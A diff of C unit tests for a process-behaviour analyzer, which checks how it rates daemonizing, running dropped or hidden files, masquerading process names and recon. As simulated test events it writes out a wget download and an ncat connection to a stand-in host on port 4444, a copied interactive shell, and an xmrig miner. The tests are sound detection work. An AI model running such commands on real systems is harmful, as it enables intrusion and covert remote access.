@@ -277,13 +277,14 @@ Test(process, exec_from_writable_places)
 	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0, "one finding per exec");
 	harness_free(h);
 
-	/* a file the program itself wrote in the workdir, then ran */
+	/* a file the program itself wrote in the workdir, under a hidden
+	 * name, then ran (code generation is generated_code_in_the_workdir) */
 	h = harness_new("process", NULL, NULL);
 	python_startup(h, 100);
-	publish_open(h, 100, 1.0, "/home/auditor/app/helper", O_WRONLY | O_CREAT | O_TRUNC,
+	publish_open(h, 100, 1.0, "/home/auditor/app/.helper", O_WRONLY | O_CREAT | O_TRUNC,
 		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0755, NULL);
-	static const char *const helper[] = {"./helper", NULL};
-	publish_exec(h, 102, 1.5, "/home/auditor/app/helper", helper, NULL, 0);
+	static const char *const helper[] = {"./.helper", NULL};
+	publish_exec(h, 102, 1.5, "/home/auditor/app/.helper", helper, NULL, 0);
 	harness_finish(h);
 	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
 	harness_free(h);
@@ -344,26 +345,64 @@ Test(process, recon_commands_direct)
 	harness_free(h);
 }
 
+static void publish_setsid(struct harness *h, int pid, double t)
+{
+	struct da_event ev = ev_make(DA_EV_PROC_SESSION, pid, t);
+	char text[64];
+	snprintf(text, sizeof(text), "setsid() = %d", pid);
+	ev.syscall = "setsid";
+	ev.result = pid;
+	ev.text = text;
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
 Test(process, setsid_in_child_is_daemonizing)
 {
+	/* setsid, then the parent exits and the child lives on */
 	struct harness *h = harness_new("process", NULL, NULL);
 	python_startup(h, 100);
 	publish_fork(h, 100, 101, 1.0, NULL);
-	struct da_event ev = ev_make(DA_EV_PROC_SESSION, 101, 1.1);
-	ev.syscall = "setsid";
-	ev.result = 101;
-	ev.text = "setsid() = 101";
-	harness_publish(h, &ev);
+	publish_setsid(h, 101, 1.1);
+	publish_exit(h, 100, 1.2);
+	publish_exit(h, 101, 4.0);
 	harness_finish(h);
 	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_MEDIUM);
+	const struct harness_finding *f = harness_find(h, "process.daemon", "new session");
+	cr_assert(f);
+	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
+	cr_expect(strstr(f->evidence[0], "setsid()"), "%s", f->evidence[0]);
+	harness_free(h);
+
+	/* ... or still runs when the main program has exited */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_setsid(h, 101, 1.1);
+	publish_exit(h, 100, 1.2);
+	harness_finish(h);
+	f = harness_find(h, "process.daemon", "new session");
+	cr_assert(f);
+	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
+	harness_free(h);
+
+	/* setsid, fork, exit: the grandchild in that session lives on */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_setsid(h, 101, 1.1);
+	publish_fork(h, 101, 102, 1.2, NULL);
+	publish_exit(h, 101, 1.3);
+	publish_exit(h, 102, 5.0);
+	harness_finish(h);
+	f = harness_find(h, "process.daemon", "new session");
+	cr_assert(f);
+	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
 	harness_free(h);
 
 	/* the main process itself calling setsid is not a detached child */
 	h = harness_new("process", NULL, NULL);
 	python_startup(h, 100);
-	ev = ev_make(DA_EV_PROC_SESSION, 100, 1.1);
-	ev.syscall = "setsid";
-	harness_publish(h, &ev);
+	publish_setsid(h, 100, 1.1);
 	harness_finish(h);
 	cr_expect_eq(harness_count(h, "process.daemon"), 0);
 	harness_free(h);
@@ -1340,5 +1379,308 @@ Test(process, remarks_do_not_repeat_the_recon_finding)
 	const char *remarks = harness_remarks(h);
 	cr_assert_not_null(remarks);
 	cr_expect_str_eq(remarks, "Reconnaissance commands run: uname");
+	harness_free(h);
+}
+
+/* A test harness starting its server in a new session
+ * (Popen(start_new_session=True)), then killpg + wait: the session ends
+ * before its parent.  Low, also when the window closes on both. */
+Test(process, setsid_of_a_session_that_ends_first_is_low)
+{
+	static const char *const server[] = {"/usr/bin/python3", "server.py", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_setsid(h, 101, 1.01);
+	publish_exec(h, 101, 1.02, "/usr/bin/python3.11", server, NULL, 0);
+	publish_kill(h, 100, 100, 2.0, "kill", -101, 15, "SIGTERM");
+	publish_exit(h, 101, 2.01);
+	publish_exit(h, 100, 2.1);
+	struct da_event end = ev_make(DA_EV_TARGET_EXIT, 100, 2.1);
+	harness_publish(h, &end);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_LOW);
+	const struct harness_finding *f = harness_get(h, "process.daemon");
+	cr_assert(f);
+	cr_expect(strstr(f->message, "did not outlive"), "%s", f->message);
+	cr_expect_eq(harness_count(h, "process.signal"), 0, "its own group");
+	harness_free(h);
+
+	/* both still running when the window closes */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_setsid(h, 101, 1.01);
+	end = ev_make(DA_EV_TARGET_EXIT, 100, 6.0);
+	end.arg[0] = -1;
+	end.arg[2] = 1;
+	harness_publish(h, &end);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.daemon"), DA_SEV_LOW);
+	harness_free(h);
+}
+
+static void publish_connect(struct harness *h, int pid, double t, const char *addr)
+{
+	struct da_event ev = ev_make(DA_EV_NET_CONNECT, pid, t);
+	ev.syscall = "connect";
+	ev.family = 2;
+	ev.sock_type = 1;
+	ev.addr = addr;
+	ev.fd = 3;
+	ev.err = ECONNREFUSED;
+	ev.errname = "ECONNREFUSED";
+	ev.result = -1;
+	ev.text = "connect(3, {sa_family=AF_INET, ...}, 16) = -1 ECONNREFUSED";
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+static void publish_chmod(struct harness *h, int pid, double t, const char *path, int mode)
+{
+	struct da_event ev = ev_make(DA_EV_FILE_CHMOD, pid, t);
+	ev.syscall = "chmod";
+	ev.path = path;
+	ev.raw_path = path;
+	ev.mode = mode;
+	ev.text = "chmod(...) = 0";
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+/* python writes gen/add.sh, chmods it, runs ./gen/add.sh (code generation). */
+static void generate_and_run(struct harness *h, const char *path, const char *const *argv,
+			     double t)
+{
+	publish_open(h, 100, t, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC,
+		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0666, NULL);
+	publish_chmod(h, 100, t + 0.01, path, 0100755);
+	publish_fork(h, 100, 200, t + 0.02, NULL);
+	publish_exec(h, 200, t + 0.03, path, argv, NULL, 0);
+	publish_exit(h, 200, t + 0.04);
+}
+
+Test(process, generated_code_in_the_workdir)
+{
+	static const char *const add[] = {"./gen/add.sh", "6", "3", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	generate_and_run(h, "/home/auditor/app/gen/add.sh", add, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_LOW);
+	cr_expect_not_null(harness_find(h, "process.exec_writable",
+					"generated in its workdir: add.sh 6 3"));
+	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0, "one finding per exec");
+	harness_free(h);
+
+	/* a hidden directory on the way is hiding, not generating */
+	static const char *const hidden[] = {"./gen/.cache/x", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	generate_and_run(h, "/home/auditor/app/gen/.cache/x", hidden, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+
+	/* after an inet connect (even refused) it may be a download being run */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_connect(h, 100, 0.5, "203.0.113.9:80");
+	generate_and_run(h, "/home/auditor/app/gen/add.sh", add, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+
+	/* ... or after running a network tool */
+	static const char *const wget[] = {"wget", "-q", "http://203.0.113.9/x", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 150, 0.5, "/usr/bin/wget", wget, NULL, 0);
+	generate_and_run(h, "/home/auditor/app/gen/add.sh", add, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+
+	/* outside the workdir: /tmp, HOME */
+	static const char *const tmp[] = {"/tmp/gen/add.sh", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	generate_and_run(h, "/tmp/gen/add.sh", tmp, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+	static const char *const home[] = {"/home/auditor/bin/add.sh", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	generate_and_run(h, "/home/auditor/bin/add.sh", home, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+
+	/* a shell copied into the workdir is a dropped shell */
+	static const char *const sh[] = {"./gen/bash", "-i", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	generate_and_run(h, "/home/auditor/app/gen/bash", sh, 1.0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+}
+
+/* JDK 17 ProcessBuilder: vfork, exec lib/jspawnhelper, exec the program. */
+Test(process, java_spawn_helper_is_the_jvms_plumbing)
+{
+	static const char *const command[] = {"java", "-cp", "build", "Main", NULL};
+	static const char *const java[] = {"java", "-cp", "build", "Main", NULL};
+	static const char *const helper[] = {"/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper",
+					     "17.0.15+6-Debian-1deb12u1", "12:13:15", NULL};
+	static const char *const ls[] = {"ls", "-1", NULL};
+	static const char *const odd[] = {"xmrig", NULL};
+	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec(h, 2, 0.0, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", java, NULL, 0);
+	publish_fork(h, 2, 45, 0.6, NULL);
+	publish_exec(h, 45, 0.61, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", helper, NULL, 0);
+	publish_exec(h, 45, 0.62, "/usr/local/bin/ls", ls, NULL, ENOENT);
+	publish_exec(h, 45, 0.63, "/usr/bin/ls", ls, NULL, 0);
+	publish_exit(h, 45, 0.64);
+	publish_fork(h, 2, 46, 0.7, NULL);
+	publish_exec(h, 46, 0.71, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", helper, NULL, 0);
+	publish_exec(h, 46, 0.72, "/opt/x/xmrig", odd, NULL, 0);
+	harness_finish(h);
+	cr_expect_null(harness_find(h, NULL, "jspawnhelper"), "the helper is not reported");
+	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "ls -1"));
+	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM,
+		     "what the helper runs is judged");
+	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "xmrig"));
+	cr_expect_str_eq(harness_observation(h), "2 subprocesses");
+	harness_free(h);
+
+	/* jspawnhelper run by anything but the JVM is judged like any program */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_exec(h, 101, 1.1, "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", helper, NULL, 0);
+	harness_finish(h);
+	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "jspawnhelper"));
+	harness_free(h);
+}
+
+/* A process snapshot taken as cc1 exits: its command line is gone, ps
+ * shows "[cc1]".  Not a masquerade; a kernel thread's name still is. */
+Test(process, snapshot_of_an_exiting_program_is_no_masquerade)
+{
+	static const char *const cc[] = {"cc", "-O2", "-o", "gen/table", "gen/table.c", NULL};
+	static const char *const cc1[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 6, 1.0, NULL);
+	publish_exec(h, 6, 1.01, "/usr/bin/cc", cc, NULL, 0);
+	publish_fork(h, 6, 7, 1.02, NULL);
+	publish_exec(h, 7, 1.03, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NULL, 0);
+	publish_snapshot(h, 7, NULL, "nobody        7      6 R          00:00 [cc1]");
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
+	harness_free(h);
+
+	/* a 15-character comm cut from a longer program name */
+	static const char *const longname[] = {"./matrix_multiplier_v2", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 8, 1.0, "/home/auditor/app/matrix_multiplier_v2", longname, NULL, 0);
+	publish_snapshot(h, 8, NULL, "nobody        8      1 R          00:00 [matrix_multipli]");
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
+	harness_free(h);
+
+	/* a dying (X) row, and a pid that has already ended */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 9, 1.0, NULL);
+	publish_exec(h, 9, 1.01, "/usr/bin/cc", cc, NULL, 0);
+	publish_snapshot(h, 9, NULL, "nobody        9    100 X          00:00 [gcc-12]");
+	publish_fork(h, 100, 10, 1.1, NULL);
+	publish_exec(h, 10, 1.11, "/usr/bin/cc", cc, NULL, 0);
+	publish_exit(h, 10, 1.2);
+	publish_snapshot(h, 10, NULL, "nobody       10    100 R          00:00 [gcc-12]");
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
+	harness_free(h);
+
+	/* a name other than its program's, or a kernel thread's, still counts */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 7, 1.0, NULL);
+	publish_exec(h, 7, 1.03, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NULL, 0);
+	publish_snapshot(h, 7, NULL, "nobody        7    100 S          00:00 [updater]");
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.masquerade"), 1);
+	harness_free(h);
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 7, 1.0, NULL);
+	publish_exec(h, 7, 1.03, "/home/auditor/app/kworker", (const char *const[]){"kworker", NULL},
+		     NULL, 0);
+	publish_exit(h, 7, 1.5);
+	publish_snapshot(h, 7, NULL, "nobody        7    100 R          00:00 [kworker/0:1]");
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.masquerade"), 1);
+	harness_free(h);
+}
+
+/* pwd, env running a program, sync, install...: everyday tools, low. */
+Test(process, everyday_tools_include_pwd_and_env)
+{
+	static const char *const pwd[] = {"pwd", NULL};
+	static const char *const env_run[] = {"env", "python3", "x.py", NULL};
+	static const char *const sync[] = {"sync", NULL};
+	static const char *const inst[] = {"install", "-m", "644", "a", "b", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 101, 1.0, "/usr/bin/pwd", pwd, NULL, 0);
+	publish_exec(h, 102, 1.1, "/usr/bin/env", env_run, NULL, 0);
+	publish_exec(h, 103, 1.2, "/usr/bin/sync", sync, NULL, 0);
+	publish_exec(h, 104, 1.3, "/usr/bin/install", inst, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 4);
+	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_LOW);
+	harness_free(h);
+
+	/* env alone prints the environment: still recon */
+	static const char *const env_alone[] = {"env", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 101, 1.0, "/usr/bin/env", env_alone, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_MEDIUM);
+	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0);
+	harness_free(h);
+}
+
+/* A shell's test of a command that does not exist: ENOENT on every PATH
+ * entry, nothing ran.  Low; a network tool tried is still medium. */
+Test(process, command_found_nowhere_is_low)
+{
+	static const char *const nosuch[] = {"nosuchcmd", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 20, 1.0, NULL);
+	publish_exec(h, 20, 1.01, "/usr/local/bin/nosuchcmd", nosuch, NULL, ENOENT);
+	publish_exec(h, 20, 1.02, "/usr/bin/nosuchcmd", nosuch, NULL, ENOENT);
+	publish_exec(h, 20, 1.03, "/bin/nosuchcmd", nosuch, NULL, ENOENT);
+	publish_exit(h, 20, 1.04);
+	harness_finish(h);
+	const struct harness_finding *f = harness_get(h, "process.exec_unlisted");
+	cr_assert(f);
+	cr_expect_eq(f->severity, DA_SEV_LOW);
+	cr_expect_eq(f->count, 1);
+	cr_expect(strstr(f->message, "not found"), "%s", f->message);
+	cr_expect(strstr(f->evidence[0], "ENOENT"), "%s", f->evidence[0]);
+	harness_free(h);
+
+	static const char *const ncat[] = {"ncat", "203.0.113.9", "4444", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 21, 1.0, "/usr/bin/ncat", ncat, NULL, ENOENT);
+	publish_exit(h, 21, 1.1);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM);
 	harness_free(h);
 }
